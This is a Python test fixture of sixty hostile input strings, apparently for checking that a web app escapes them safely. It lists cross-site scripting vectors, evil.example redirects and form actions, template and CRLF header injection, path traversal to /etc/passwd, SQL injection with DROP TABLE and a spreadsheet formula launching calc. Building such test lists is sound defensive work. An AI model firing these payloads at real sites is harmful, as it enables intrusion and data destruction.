"""Sixty strings that hostile pages and people send. None may run, none may break a page."""

MARK = "window.__ran=1"
SCRIPTS = (
    f"<script>{MARK}</script>",
    f"</title><script>{MARK}</script>",
    f"</textarea><script>{MARK}</script>",
    f'"><script>{MARK}</script>',
    f"'><script>{MARK}</script>",
    f"--><script>{MARK}</script>",
    f"]]><script>{MARK}</script>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"<ScRiPt >{MARK}</sCrIpT>",
    f"<img src=x onerror={MARK}>",
    f'<img src="x" onerror="{MARK}"',
    f'" onfocus="{MARK}" autofocus x="',
    f"' onmouseover='{MARK}' x='",
    f"` onload={MARK} x=`",
    f"<body onload={MARK}>",
    f"<details open ontoggle={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f"<video><source onerror={MARK}></video>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<object data='data:text/html,<script>{MARK}</script>'></object>",
    f"<style>@import 'data:text/css,*{{}}';</style><b style=\"x:expression({MARK})\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Confirm</button></form>",
    f"<button hx-on:click='{MARK}' hx-get=/ hx-trigger=load>x</button>",
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    f"<a href=javascript:{MARK}>x</a>",
    f"javascript:{MARK}",
    f"JaVaScRiPt&#58;{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    f"vbscript:{MARK}",
)
DRAWINGS = (
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<svg><foreignObject><img src=x onerror={MARK}></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={MARK}></mtext></math>",
    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
)
TEMPLATES = (
    "{{ request.user.password }}",
    "{% load static %}{% csrf_token %}",
    "{{ 7|add:7 }}{% debug %}",
    "{#\n#}{% include 'desk/team.html' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(secret)s %s %n {0.__class__}",
)
HEADERS = (
    "x\r\nSet-Cookie: tollbook_session=evil",
    "x\r\n\r\n<script>window.__ran=1</script>",
    "x\nLocation: //evil.example",
    "x%0d%0aSet-Cookie:%20evil=1",
)
ADDRESSES = (
    "//evil.example",
    "https://evil.example/",
    "/\\evil.example",
    "../../../../etc/passwd",
    "file:///etc/passwd",
)
LETTERS = (
    "\u202eevoba si tahw daer\u202c",
    "\u2066\u202e\u2067 mixed \u2069",
    "раypal аdmin",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306" * 20,
    "\ufeff\u200b\u200d\u2060 invisible",
    "' OR 1=1; DROP TABLE book_eventrow; --",
    "=cmd|' /C calc'!A0",
)
ATTACKS = (*SCRIPTS, *DRAWINGS, *TEMPLATES, *HEADERS, *ADDRESSES, *LETTERS)
assert len(ATTACKS) == 60
